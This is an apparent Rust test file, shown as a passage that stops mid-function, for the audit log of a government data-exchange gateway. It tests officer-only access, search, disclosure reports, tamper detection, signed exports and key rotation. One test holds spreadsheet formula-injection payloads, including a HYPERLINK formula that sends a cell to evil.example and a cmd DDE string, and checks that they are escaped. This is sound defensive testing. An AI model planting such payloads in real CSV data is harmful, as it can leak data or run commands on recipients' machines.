//! Privacy officers: search, disclosure reports, verify, export, statistics,
//! retention, and the separation of duties around them.

use std::collections::BTreeSet;
use std::process::Command;
use std::time::Duration;

use hyper::StatusCode;
use serde_json::Value;

use crate::helpers::{TestGateway, TestResponse};
use tongban::audit::checkpoint::Keyring;
use tongban::audit::suite::Suite;

const HUKOU: &str = "/v1/datasets/gongan.hukou/records";

pub(crate) async fn officer_get(gw: &TestGateway, path: &str) -> TestResponse {
    let tok = gw.token("shujuju", "officer-1", &["privacy_officer"]);
    gw.get(path, Some(&tok), None, None).await
}

fn seqs(r: &TestResponse) -> Vec<u64> {
    r.body["events"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["seq"].as_u64().unwrap())
        .collect()
}

/// A few lookups, denials and another department's queries.
pub(crate) async fn traffic(gw: &TestGateway) -> (String, String) {
    let ids = gw.sample_ids("gongan.hukou", 2);
    let mz = gw.token("minzheng", "clerk-007", &["dibao_reviewer"]);
    let rs = gw.token("renshe", "clerk-1", &["pension_clerk"]);
    for id in &ids {
        let r = gw
            .get(
                &format!("{HUKOU}/{id}"),
                Some(&mz),
                Some("dibao_review"),
                Some("MZ-2026-1"),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK);
    }
    let r = gw
        .get(
            &format!("{HUKOU}/{}", ids[0]),
            Some(&rs),
            Some("pension_eligibility"),
            None,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK);
    let r = gw
        .get(
            &format!("{HUKOU}/{}", ids[0]),
            Some(&mz),
            Some("school_admission"),
            Some("MZ-2026-1"),
        )
        .await;
    assert_eq!(r.status, StatusCode::FORBIDDEN);
    (ids[0].clone(), ids[1].clone())
}

#[tokio::test]
async fn audit_routes_need_a_privacy_officer_of_the_operator() {
    let gw = TestGateway::start().await;
    let routes = [
        "/v1/audit/events",
        "/v1/audit/events/1",
        "/v1/audit/verify",
        "/v1/audit/export",
        "/v1/audit/stats",
        "/v1/audit/checkpoint-key",
    ];
    let id = &gw.sample_ids("gongan.hukou", 1)[0];
    let disclosures = format!("/v1/audit/residents/{id}/disclosures");
    for (dept, role) in [
        ("minzheng", "dibao_reviewer"),
        ("shujuju", "policy_admin"),
        ("minzheng", "privacy_officer"),
    ] {
        let tok = gw.token(dept, "someone", &[role]);
        for route in routes.iter().copied().chain([disclosures.as_str()]) {
            let r = gw.get(route, Some(&tok), None, None).await;
            assert_eq!(r.status, StatusCode::FORBIDDEN, "{dept}/{role} on {route}");
            assert_eq!(r.problem_type(), Some("/problems/role-required"));
        }
    }
    let r = gw.get("/v1/audit/events", None, None, None).await;
    assert_eq!(r.status, StatusCode::UNAUTHORIZED);
    let r = officer_get(&gw, "/v1/audit/events").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
}

/// The operator's own staff count against their department's limit too
/// (on this node: their routes are not the exchange's traffic), so a leaked
/// officer token cannot page through the log unbounded.
#[tokio::test]
async fn officers_are_held_to_their_departments_rate_limit() {
    let gw = TestGateway::start_with(|config, _| {
        config
            .rate_limit
            .departments
            .insert("shujuju".into(), "2/min".into());
    })
    .await;
    for _ in 0..2 {
        let r = officer_get(&gw, "/v1/audit/events").await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    }
    let r = officer_get(&gw, "/v1/audit/events").await;
    assert_eq!(r.status, StatusCode::TOO_MANY_REQUESTS, "{}", r.text);
    assert_eq!(r.problem_type(), Some("/problems/rate-limited"));
    assert!(r.headers.contains_key("retry-after"));
}

#[tokio::test]
async fn search_filters_find_exactly_the_matching_events_and_are_audited() {
    let gw = TestGateway::start().await;
    let (first, second) = traffic(&gw).await;
    let r = officer_get(&gw, &format!("/v1/audit/events?resident={first}")).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(
        seqs(&r),
        [4, 3, 1],
        "newest first: the denial, renshe's lookup, minzheng's lookup"
    );
    let r = officer_get(&gw, &format!("/v1/audit/events?resident={second}")).await;
    assert_eq!(seqs(&r), [2]);
    let r = officer_get(&gw, "/v1/audit/events?consumer=renshe").await;
    assert_eq!(seqs(&r), [3]);
    let r = officer_get(&gw, "/v1/audit/events?decision=deny&consumer=minzheng").await;
    assert_eq!(seqs(&r), [4]);
    let r = officer_get(&gw, "/v1/audit/events?dataset=gongan.hukou&purpose=dibao_review&subject=clerk-007&decision=allow").await;
    assert_eq!(seqs(&r), [2, 1]);
    let e = &r.body["events"][0];
    assert_eq!(e["consumer"], "minzheng");
    assert_eq!(e["hash"].as_str().unwrap().len(), 64);
    assert!(!r.text.contains(&second), "resident IDs are not in the log");

    // The searches themselves are events, and say what was searched.
    let r = officer_get(&gw, "/v1/audit/events?operation=x").await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    let r = officer_get(&gw, "/v1/audit/events?decision=maybe").await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
    let review = gw.store().await.get(6).unwrap().unwrap();
    assert_eq!(review.body.kind, tongban::audit::EventKind::AuditReview);
    assert_eq!(review.body.subject.as_deref(), Some("officer-1"));
    assert!(
        review.body.resident.is_some(),
        "a search by resident records the pseudonym"
    );

    let r = officer_get(&gw, "/v1/audit/events/3").await;
    assert_eq!(r.body["consumer"], "renshe");
    let r = officer_get(&gw, "/v1/audit/events/999").await;
    assert_eq!(r.problem_type(), Some("/problems/event-not-found"));
}

#[tokio::test]
async fn time_filters_use_the_gateway_calendar() {
    let start = time::macros::datetime!(2026-06-01 10:00 +08:00);
    let gw = TestGateway::start_at(|_, _| {}, tongban::clock::Clock::manual(start)).await;
    traffic(&gw).await;
    gw.clock.advance(Duration::from_secs(86_400));
    traffic(&gw).await;
    let r = officer_get(&gw, "/v1/audit/events?from=2026-06-02&limit=100").await;
    assert_eq!(seqs(&r), [8, 7, 6, 5]);
    let r = officer_get(&gw, "/v1/audit/events?to=2026-06-01&limit=100").await;
    assert_eq!(seqs(&r), [4, 3, 2, 1]);
    let r = officer_get(
        &gw,
        "/v1/audit/events?from=2026-06-01T10:00:00%2B08:00&to=2026-06-01T23:59:59Z",
    )
    .await;
    assert_eq!(seqs(&r).len(), 4);
    assert!(
        r.body["events"][0]["time"]
            .as_str()
            .unwrap()
            .ends_with("+08:00")
    );
}

#[tokio::test]
async fn pagination_has_no_gaps_or_duplicates_while_events_arrive() {
    let gw = TestGateway::start().await;
    for _ in 0..3 {
        traffic(&gw).await;
    }
    let before: BTreeSet<u64> = (1..=12).collect();
    let mut seen = Vec::new();
    let mut cursor: Option<String> = None;
    loop {
        let path = match &cursor {
            Some(c) => format!("/v1/audit/events?consumer=minzheng&limit=2&cursor={c}"),
            None => "/v1/audit/events?consumer=minzheng&limit=2".to_owned(),
        };
        let r = officer_get(&gw, &path).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
        seen.extend(seqs(&r));
        traffic(&gw).await; // new events between pages
        match r.body["next_cursor"].as_str() {
            Some(c) => cursor = Some(c.to_owned()),
            None => break,
        }
    }
    let store = gw.store().await;
    let expected: Vec<u64> = before
        .iter()
        .rev()
        .copied()
        .filter(|s| store.get(*s).unwrap().unwrap().body.dept.as_deref() == Some("minzheng"))
        .collect();
    assert_eq!(seen, expected);
    let r = officer_get(&gw, "/v1/audit/events?cursor=bm9wZQ").await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST);
}

#[tokio::test]
async fn the_disclosure_report_lists_every_time_data_left() {
    let gw = TestGateway::start().await;
    let (first, _) = traffic(&gw).await;
    let r = officer_get(&gw, &format!("/v1/audit/residents/{first}/disclosures")).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(
        r.body["count"], 2,
        "two lookups disclosed data; the denial did not"
    );
    let list = r.body["disclosures"].as_array().unwrap();
    assert_eq!(list[0]["consumer"], "renshe");
    assert_eq!(list[1]["consumer"], "minzheng");
    assert!(
        list[1]["consumer_name"]
            .as_str()
            .unwrap()
            .contains("民政局")
    );
    assert_eq!(list[1]["case_ref"], "MZ-2026-1");
    assert!(
        list[1]["fields"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["name"] == "hukou_address"
                && f["title"].as_str().unwrap().contains("户籍地址"))
    );
    assert!(!r.text.contains(first.as_str()));

    let r = officer_get(
        &gw,
        &format!("/v1/audit/residents/{first}/disclosures?format=csv"),
    )
    .await;
    assert_eq!(r.headers["content-type"], "text/csv; charset=utf-8");
    assert!(r.text.starts_with('\u{feff}'));
    assert_eq!(r.text.lines().count(), 3);
    assert!(r.text.contains("民政局"));
    let r = officer_get(&gw, "/v1/audit/residents/123/disclosures").await;
    assert_eq!(r.problem_type(), Some("/problems/invalid-resident-id"));
}

#[tokio::test]
async fn verify_reports_an_intact_chain_with_checkpoints() {
    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = every(3)).await;
    traffic(&gw).await;
    let r = officer_get(&gw, "/v1/audit/verify").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    assert_eq!(r.body["verdict"], "intact");
    assert_eq!(r.body["checked"], 4);
    assert!(r.body["checkpoints_checked"].as_u64().unwrap() >= 1);
    assert!(r.body["broken"].is_null());
}

pub(crate) fn tongban(args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_tongban"))
        .args(args)
        .output()
        .unwrap()
}

/// Runs traffic with the log in `suite`, stops the gateway and hands back
/// its home (the database is free again).
pub(crate) async fn stopped_home_with_suite(
    checkpoint_every: u64,
    suite: Suite,
) -> (tempfile::TempDir, tongban::config::Config) {
    let gw = TestGateway::start_with(|c, _| {
        c.audit.checkpoint_every = every(checkpoint_every);
        c.audit.suite = suite;
    })
    .await;
    for _ in 0..3 {
        traffic(&gw).await;
    }
    stop_and_take_home(gw).await
}

/// Stops a gateway and hands back its home and configuration once nothing
/// in this process holds its database any more.
pub(crate) async fn stop_and_take_home(
    mut gw: TestGateway,
) -> (tempfile::TempDir, tongban::config::Config) {
    gw.stop().await;
    let home = gw.take_home();
    let config = gw.gw.config.clone();
    drop(gw);
    let data = config.data_dir.clone();
    // The gateway's threads let go of the database soon after the stop;
    // under a loaded machine that can take seconds.
    let deadline = std::time::Instant::now() + Duration::from_secs(30);
    while tongban::datadir::open_path(&data).is_err() && std::time::Instant::now() < deadline {
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    (home, config)
}

fn verify_home(home: &std::path::Path) -> (bool, Value) {
    let out = tongban(&["audit", "verify", "--home", home.to_str().unwrap()]);
    (
        out.status.success(),
        serde_json::from_slice(&out.stdout).unwrap_or(Value::Null),
    )
}

#[tokio::test]
async fn alteration_deletion_reordering_and_truncation_are_each_detected() {
    type Tamper = fn(&sled::Tree, &sled::Tree);
    let cases: [(&str, Tamper, u64); 5] = [
        (
            "altered",
            |events, _| {
                let k = 5u64.to_be_bytes();
                let mut v = events.get(k).unwrap().unwrap().to_vec();
                let at = v.iter().position(|b| *b == b'z').unwrap();
                v[at] = b'Z';
                events.insert(k, v).unwrap();
            },
            5,
        ),
        (
            // Its own hash made to match again: only the next event's link
            // to it shows the change.
            "altered and resealed",
            |events, _| {
                let k = 5u64.to_be_bytes();
                // A chunk of one event, stored plain: a tag byte, the
                // event's length, the event.
                let chunk = events.get(k).unwrap().unwrap();
                let (tag, rest) = chunk.split_at(1);
                let (len, stored) = rest.split_at(4);
                assert_eq!(
                    u32::from_le_bytes(len.try_into().unwrap()) as usize,
                    stored.len()
                );
                let (mut event, _, _) = tongban::audit::Event::open(stored).unwrap();
                event.body.latency_us += 1;
                let sealed = event.seal().0;
                let mut resealed = tag.to_vec();
                resealed.extend_from_slice(&u32::try_from(sealed.len()).unwrap().to_le_bytes());
                resealed.extend_from_slice(&sealed);
                events.insert(k, resealed).unwrap();
            },
            6,
        ),
        (
            "deleted",
            |events, _| {
                events.remove(6u64.to_be_bytes()).unwrap();
            },
            7,
        ),
        (
            "reordered",
            |events, _| {
                let a = events.get(7u64.to_be_bytes()).unwrap().unwrap();
                let b = events.get(8u64.to_be_bytes()).unwrap().unwrap();
                events.insert(7u64.to_be_bytes(), b).unwrap();
                events.insert(8u64.to_be_bytes(), a).unwrap();
            },
            7,
        ),
        (
            "truncated",
            |events, _| {
                for s in 10..=12u64 {
                    events.remove(s.to_be_bytes()).unwrap();
                }
            },
            10,
        ),
    ];
    for ((what, tamper, at), suite) in cases
        .into_iter()
        .flat_map(|c| [(c, Suite::International), (c, Suite::Gm)])
    {
        let what = format!("{what} ({suite})");
        let (home, config) = stopped_home_with_suite(4, suite).await;
        let (ok, report) = verify_home(home.path());
        assert!(ok, "{what}: intact before tampering: {report}");
        assert_eq!(report["epochs"].as_array().unwrap().len(), 1, "{report}");
        assert_eq!(report["epochs"][0]["suite"], suite.name(), "{report}");
        {
            let db = tongban::datadir::open_path(&config.data_dir).unwrap();
            tamper(
                &db.open_tree("audit/events").unwrap(),
                &db.open_tree("audit/checkpoints").unwrap(),
            );
            db.flush().unwrap();
        }
        let (ok, report) = verify_home(home.path());
        assert!(!ok, "{what} was not detected: {report}");
        assert_eq!(report["broken"]["seq"], at, "{what}: {report}");
    }
}

/// `tongban audit verify --export FILE --pubkey KEY`.
fn verify_export_file(file: &std::path::Path, key: &std::path::Path) -> std::process::Output {
    tongban(&[
        "audit",
        "verify",
        "--export",
        file.to_str().unwrap(),
        "--pubkey",
        key.to_str().unwrap(),
    ])
}

#[tokio::test]
async fn an_export_verifies_offline_and_any_change_to_it_fails() {
    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = every(5)).await;
    for _ in 0..3 {
        traffic(&gw).await;
    }
    let dir = tempfile::tempdir().unwrap();
    let key = officer_get(&gw, "/v1/audit/checkpoint-key").await;
    assert!(key.text.starts_with("-----BEGIN PUBLIC KEY-----"));
    let key_file = dir.path().join("key.pem");
    std::fs::write(&key_file, &key.text).unwrap();

    for format in ["ndjson", "csv"] {
        let r = officer_get(&gw, &format!("/v1/audit/export?format={format}")).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
        let file = dir.path().join(format!("export.{format}"));
        std::fs::write(&file, &r.text).unwrap();
        let out = verify_export_file(&file, &key_file);
        assert!(
            out.status.success(),
            "{format}: {} {}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        );
        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
        assert!(
            report["chain"]["checked"].as_u64().unwrap() >= 12,
            "{report}"
        );
        assert_eq!(
            report["uncovered_tail"], 0,
            "the export is covered by a checkpoint: {report}"
        );

        // Changing what an event says, without touching its canonical bytes, is caught…
        let forged = r
            .text
            .replacen("\"consumer\":\"renshe\"", "\"consumer\":\"yibao\"", 1)
            .replacen(",renshe,", ",yibao,", 1);
        assert_ne!(forged, r.text);
        std::fs::write(&file, &forged).unwrap();
        let out = verify_export_file(&file, &key_file);
        assert!(
            !out.status.success(),
            "{format}: a changed field went unnoticed"
        );
        // …and so is dropping an event line.
        let mut lines: Vec<&str> = r.text.lines().collect();
        lines.remove(lines.len() - 3);
        std::fs::write(&file, lines.join("\n")).unwrap();
        let out = verify_export_file(&file, &key_file);
        assert!(
            !out.status.success(),
            "{format}: a dropped event went unnoticed"
        );
        // …and so is cutting the last events off (the checkpoint that
        // covers them stays in the file).
        let lines: Vec<&str> = r.text.lines().collect();
        std::fs::write(&file, lines[..lines.len() - 2].join("\n")).unwrap();
        let out = verify_export_file(&file, &key_file);
        assert!(
            !out.status.success()
                && String::from_utf8_lossy(&out.stderr).contains("events removed from the end"),
            "{format}: a cut tail went unnoticed: {}",
            String::from_utf8_lossy(&out.stderr)
        );
    }

    // A node's chain in two sections could hide the events between them.
    let r = officer_get(&gw, "/v1/audit/export").await;
    let file = dir.path().join("twice.ndjson");
    std::fs::write(&file, format!("{}{}", r.text, r.text)).unwrap();
    let out = verify_export_file(&file, &key_file);
    assert!(
        !out.status.success()
            && String::from_utf8_lossy(&out.stderr).contains("has more than one section"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    // Another key does not verify the checkpoints.
    let r = officer_get(&gw, "/v1/audit/export").await;
    let file = dir.path().join("export.ndjson");
    std::fs::write(&file, &r.text).unwrap();
    let other = tongban::audit::checkpoint::CheckpointSigner::make_and_open(
        dir.path(),
        tongban::audit::suite::Suite::International,
    )
    .unwrap();
    std::fs::write(&key_file, other.public_key_pem()).unwrap();
    let out = verify_export_file(&file, &key_file);
    assert!(!out.status.success(), "a foreign key verified the export");
}

#[tokio::test]
async fn statistics_count_per_day_and_flag_unusual_patterns() {
    // 23:00 on a Wednesday: outside working hours.
    let late = time::macros::datetime!(2026-06-03 23:00 +08:00);
    let gw = TestGateway::start_at(|_, _| {}, tongban::clock::Clock::manual(late)).await;
    traffic(&gw).await;
    let mz = gw.token("minzheng", "clerk-007", &["dibao_reviewer"]);
    let id = &gw.sample_ids("gongan.hukou", 1)[0];
    for _ in 0..10 {
        gw.get(
            &format!("{HUKOU}/{id}"),
            Some(&mz),
            Some("no_such_purpose"),
            Some("MZ-1"),
        )
        .await;
    }
    let r = officer_get(&gw, "/v1/audit/stats?from=2026-06-03&to=2026-06-03").await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    let day = &r.body["days"]["2026-06-03"];
    assert_eq!(day["total"], 14);
    assert_eq!(day["by_consumer"]["minzheng"], 13);
    assert_eq!(day["by_decision"]["deny"], 11);
    let flags = r.body["flags"].as_array().unwrap();
    let kinds: BTreeSet<&str> = flags.iter().map(|f| f["kind"].as_str().unwrap()).collect();
    assert!(
        kinds.contains("off_hours") && kinds.contains("denial_burst"),
        "{flags:?}"
    );
    let burst = flags.iter().find(|f| f["kind"] == "denial_burst").unwrap();
    assert!(burst["events"].as_array().unwrap().len() >= 10);
    assert_eq!(burst["subject"], "clerk-007");
}

#[tokio::test]
async fn pruning_removes_only_exported_checkpointed_old_events_and_the_rest_verifies() {
    let long_ago = time::OffsetDateTime::now_utc() - time::Duration::days(200);
    let mut gw = TestGateway::start_at(
        |c, home| {
            c.audit.retention_days = Some(183.try_into().unwrap());
            c.audit.checkpoint_every = every(2);
            // The CLI reads the file too.
            let file = home.join("tongban.toml");
            let text = std::fs::read_to_string(&file).unwrap();
            let text = text.replacen("[audit]\n", "[audit]\nretention_days = 183\n", 1);
            std::fs::write(&file, text).unwrap();
        },
        tongban::clock::Clock::manual(long_ago),
    )
    .await;
    traffic(&gw).await;
    // Not exported yet: nothing may go.
    gw.stop().await;
    let home = gw.take_home();
    drop(gw);
    let home_arg = home.path().to_str().unwrap();
    let prune = |dry: bool| {
        let mut args = vec!["audit", "prune", "--home", home_arg];
        if dry {
            args.push("--dry-run");
        }
        let out = tongban(&args);
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice::<Value>(&out.stdout).unwrap()
    };
    let mut report = prune(true);
    for _ in 0..50 {
        if report["limited_by"] == "not yet exported" {
            break;
        }
        std::thread::sleep(Duration::from_millis(50));
        report = prune(true);
    }
    assert_eq!(report["limited_by"], "not yet exported", "{report}");
    assert_eq!(report["events"], 0);

    let out = tongban(&[
        "audit",
        "export",
        "--home",
        home_arg,
        "--output",
        home.path().join("x.ndjson").to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let report = prune(false);
    let through = report["through"].as_u64().unwrap();
    assert!(through >= 4, "{report}");
    let (ok, verified) = verify_home(home.path());
    assert!(ok, "{verified}");
    assert_eq!(verified["anchor_seq"], through);
}

#[test]
fn retention_below_six_months_is_refused() {
    let (home, _config) = crate::helpers::demo_home();
    let file = home.path().join("tongban.toml");
    let text = std::fs::read_to_string(&file).unwrap();
    assert!(text.contains("\n[audit]\n"));
    std::fs::write(
        &file,
        text.replace("\n[audit]\n", "\n[audit]\nretention_days = 90\n"),
    )
    .unwrap();
    let err = tongban::config::Config::load(&file)
        .unwrap_err()
        .to_string();
    assert!(err.contains("183"), "{err}");
}

/// An export counts as exported (retention may then prune what it holds)
/// only once its last byte went out on the connection: a client that drops
/// mid-stream leaves the mark where it was; one that takes it whole moves it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_dropped_mid_stream_is_not_counted_as_exported() {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    let gw = TestGateway::start_with(|c, _| {
        let file = c.policies_dir.join("grants/renshe-pension.toml");
        let text = std::fs::read_to_string(&file).unwrap();
        std::fs::write(
            &file,
            text.replace("quota = \"600/min\"", "quota = \"100000/min\""),
        )
        .unwrap();
    })
    .await;
    // Far more than the connection's buffers hold: the export is still
    // being written when the client goes.
    let ids = gw.sample_ids("gongan.hukou", 200);
    let tok = gw.token("renshe", "batch-1", &["pension_clerk"]);
    let body =
        serde_json::json!({ "resident_ids": ids.iter().cycle().take(500).collect::<Vec<_>>() });
    let headers = [
        ("authorization".to_owned(), format!("Bearer {tok}")),
        ("x-purpose".to_owned(), "pension_eligibility".to_owned()),
        ("content-type".to_owned(), "application/json".to_owned()),
    ];
    for _ in 0..20 {
        let r = gw
            .client()
            .request_with_body(
                "POST",
                "/v1/datasets/gongan.hukou/records:batch",
                &headers,
                bytes::Bytes::from(body.to_string()),
            )
            .await
            .unwrap();
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    }
    assert_eq!(gw.store().await.exported_through().unwrap(), 0);

    let officer = gw.token("shujuju", "officer-1", &["privacy_officer"]);
    let mut tls = gw.client().connect().await.unwrap();
    tls.write_all(
        format!("GET /v1/audit/export HTTP/1.1\r\nhost: localhost\r\nauthorization: Bearer {officer}\r\n\r\n")
            .as_bytes(),
    )
    .await
    .unwrap();
    let mut first = vec![0u8; 16 * 1024];
    let mut got = 0;
    while got < first.len() {
        let n = tls.read(&mut first[got..]).await.unwrap();
        assert!(n > 0, "the export ended early");
        got += n;
    }
    assert!(String::from_utf8_lossy(&first).starts_with("HTTP/1.1 200"));
    drop(tls);
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(
        gw.store().await.exported_through().unwrap(),
        0,
        "an export the client dropped mid-stream counts as exported"
    );

    // A copy asked for as one (the console's download), taken whole, does not.
    let r = officer_get(&gw, "/v1/audit/export?archive=false").await;
    assert_eq!(r.status, StatusCode::OK);
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(gw.store().await.exported_through().unwrap(), 0);

    // Taken whole, it counts.
    let r = officer_get(&gw, "/v1/audit/export").await;
    assert_eq!(r.status, StatusCode::OK);
    let deadline = std::time::Instant::now() + Duration::from_secs(5);
    while gw.store().await.exported_through().unwrap() < 10_000 {
        assert!(
            std::time::Instant::now() < deadline,
            "a whole export was not recorded"
        );
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// A caller-chosen string that a spreadsheet would run as a formula (a
/// token's `sub` here) is written as text in every CSV an officer opens,
/// and the export still verifies offline.
#[tokio::test]
async fn csv_cells_that_a_spreadsheet_would_run_are_written_as_text() {
    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = every(2)).await;
    let id = gw.sample_ids("gongan.hukou", 1)[0].clone();
    let evil = "=HYPERLINK(\"http://evil.example/\"&A1,\"open\")";
    for sub in [evil, "+1+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"] {
        let tok = gw.token("minzheng", sub, &["dibao_reviewer"]);
        let r = gw
            .get(
                &format!("{HUKOU}/{id}"),
                Some(&tok),
                Some("dibao_review"),
                Some("MZ-2026-1"),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.text);
    }
    let report = officer_get(
        &gw,
        &format!("/v1/audit/residents/{id}/disclosures?format=csv"),
    )
    .await;
    let export = officer_get(&gw, "/v1/audit/export?format=csv").await;
    for (what, text) in [
        ("disclosure report", &report.text),
        ("export", &export.text),
    ] {
        let text = text.trim_start_matches('\u{feff}');
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text.as_bytes());
        let mut seen = 0;
        for row in reader.records() {
            for cell in row.unwrap().iter() {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{what}: a cell a spreadsheet would run: {cell}"
                );
                seen += usize::from(cell == format!("'{evil}"));
            }
        }
        assert!(seen >= 1, "{what}: the subject is there, as text");
    }

    let dir = tempfile::tempdir().unwrap();
    let key = officer_get(&gw, "/v1/audit/checkpoint-key").await;
    let key_file = dir.path().join("key.pem");
    std::fs::write(&key_file, &key.text).unwrap();
    let file = dir.path().join("export.csv");
    std::fs::write(&file, &export.text).unwrap();
    let out = verify_export_file(&file, &key_file);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
}

/// A checkpoint interval in events.
fn every(events: u64) -> std::num::NonZeroU64 {
    std::num::NonZeroU64::new(events).unwrap()
}

/// `tongban audit rotate-key`: a new checkpoint key signs from then on, the
/// old one is kept and still verifies what it signed, and the head at the
/// rotation is signed by both. An export verifies with both public keys,
/// and not with the new one alone.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_rotated_checkpoint_key_hands_the_chain_over() {
    let mut gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = every(3)).await;
    traffic(&gw).await;
    gw.stop().await;
    let config = gw.gw.config.clone();
    let clock = gw.clock.clone();
    let home = gw.take_home();
    drop(gw);
    let h = home.path().to_str().unwrap().to_owned();

    let out = tongban(&["audit", "rotate-key", "--home", &h]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let done: Value = serde_json::from_slice(&out.stdout).unwrap();
    let (old, new) = (
        done["old_key_id"].as_str().unwrap().to_owned(),
        done["new_key_id"].as_str().unwrap().to_owned(),
    );
    assert_ne!(old, new);
    let handover = done["handover_seq"].as_u64().expect("the log has a head");
    assert!(
        config
            .data_dir
            .join("audit-checkpoint-retired")
            .join(format!("{old}.key"))
            .exists()
    );

    // Served again: new checkpoints are the new key's.
    let gw = TestGateway::start_on(home, config, clock).await;
    traffic(&gw).await;
    let mut gw = gw;
    gw.stop().await;
    let home = gw.take_home();
    drop(gw);
    let out = tongban(&["audit", "verify", "--home", &h]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );

    let export = home.path().join("export.ndjson");
    let out = tongban(&[
        "audit",
        "export",
        "--home",
        &h,
        "--output",
        export.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let checkpoints: Vec<Value> = std::fs::read_to_string(&export)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|v| v["type"] == "checkpoint")
        .collect();
    let signed_by = |id: &str| {
        checkpoints
            .iter()
            .filter(|c| c["key_id"] == id)
            .map(|c| c["seq"].as_u64().unwrap())
            .collect::<Vec<_>>()
    };
    assert!(
        signed_by(&old).iter().all(|s| *s < handover),
        "{checkpoints:?}"
    );
    assert!(
        signed_by(&new).iter().all(|s| *s >= handover),
        "{checkpoints:?}"
    );
    assert!(signed_by(&new).len() >= 2, "{checkpoints:?}");
    let at = checkpoints
        .iter()
        .find(|c| c["seq"].as_u64() == Some(handover))
        .expect("the handover checkpoint");
    assert_eq!(at["previous"]["key_id"], old.as_str());
    assert_eq!(at["key_id"], new.as_str());

    verifies_with_both_keys_only(home.path(), &h, &export, &old, &new);
}

/// An export across a rotation verifies with `audit pubkey`'s keys (the
/// old and the new), and not with the new key alone.
fn verifies_with_both_keys_only(
    dir: &std::path::Path,
    h: &str,
    export: &std::path::Path,
    old: &str,
    new: &str,
) {
    // `audit pubkey` prints both Ed25519 keys (and the demo's SM2 key).
    let both = dir.join("both.pem");
    let out = tongban(&["audit", "pubkey", "--home", h]);
    std::fs::write(&both, &out.stdout).unwrap();
    let keys = Keyring::from_pem(&String::from_utf8_lossy(&out.stdout));
    assert!(keys.find(old).is_some() && keys.find(new).is_some());
    let out = verify_export_file(export, &both);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // The new key alone does not verify what the old one signed.
    let only_new = dir.join("new.pem");
    let new_key: Vec<_> = keys
        .keys()
        .iter()
        .filter(|k| k.key_id() == new)
        .cloned()
        .collect();
    std::fs::write(&only_new, Keyring::new(new_key).to_pem()).unwrap();
    let out = verify_export_file(export, &only_new);
    assert!(!out.status.success(), "verified without the old key");
}

/// Verification and export while the gateway serves, with the command line
/// as the client of its routes (`--url`, a privacy officer's token in
/// `TONGBAN_TOKEN`): the verdict, and an export that then verifies offline.
/// Another role's token, or none, is refused.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn verify_and_export_work_through_a_running_gateway() {
    let gw = TestGateway::start_with(|c, _| c.audit.checkpoint_every = every(3)).await;
    traffic(&gw).await;
    let url = format!("https://{}", gw.addr);
    let ca = gw.home.path().join("certs/ca.pem");
    let home = gw.home.path().to_path_buf();
    let officer = gw.token("shujuju", "officer-1", &["privacy_officer"]);
    let clerk = gw.token("minzheng", "clerk-007", &["dibao_reviewer"]);
    let run = |args: Vec<String>, token: Option<String>| {
        tokio::task::spawn_blocking(move || {
            let mut c = Command::new(env!("CARGO_BIN_EXE_tongban"));
            c.args(args).env_remove("TONGBAN_TOKEN");
            if let Some(t) = token {
                c.env("TONGBAN_TOKEN", t);
            }
            c.output().unwrap()
        })
    };
    let verify = |token: Option<String>| {
        run(
            vec![
                "audit".into(),
                "verify".into(),
                "--url".into(),
                url.clone(),
                "--ca".into(),
                ca.to_str().unwrap().into(),
            ],
            token,
        )
    };
    let out = verify(Some(officer.clone())).await.unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "{stderr}");
    assert!(stderr.contains("audit chain intact"), "{stderr}");
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
